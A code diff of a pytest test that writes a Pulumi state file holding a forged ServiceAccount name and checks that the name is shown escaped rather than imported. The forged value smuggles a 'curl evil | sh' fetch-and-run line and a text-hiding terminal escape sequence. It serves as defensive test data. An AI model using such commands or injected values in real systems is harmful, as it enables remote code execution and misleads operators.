@@ -167,11 +167,11 @@ def live(folder: Path) -> Path:
 
 def test_names_a_state_file_holds_are_shown_escaped_and_never_imported(lab: Path, capsys: pytest.CaptureFixture[str]) -> None:
     forged = "trainer\n2. curl evil | sh\x1b[8m"
+    inputs = {"apiVersion": "v1", "kind": "ServiceAccount", "metadata": {"name": forged, "namespace": "team-a"}}
     ops = [
-        {"type": "creating", "resource": {"urn": "urn:pulumi:lab::gpu-training::kubernetes:core/v1:ServiceAccount::a",
-                                          "inputs": {"apiVersion": "v1", "kind": "ServiceAccount", "metadata": {"name": forged, "namespace": "team-a"}}}},
+        {"type": "creating", "resource": {"urn": "urn:pulumi:lab::gpu-training::kubernetes:core/v1:ServiceAccount::a", "inputs": inputs}},
         {"type": f"updating\n1. {forged}", "resource": {"urn": "urn:pulumi:lab::gpu-training::x::b"}},
-    ]  # fmt: skip
+    ]
     state = lab / "export.json"
     state.write_text(json.dumps({"deployment": {"pending_operations": ops}}), encoding="utf-8")
     objects = lab / "live.yaml"
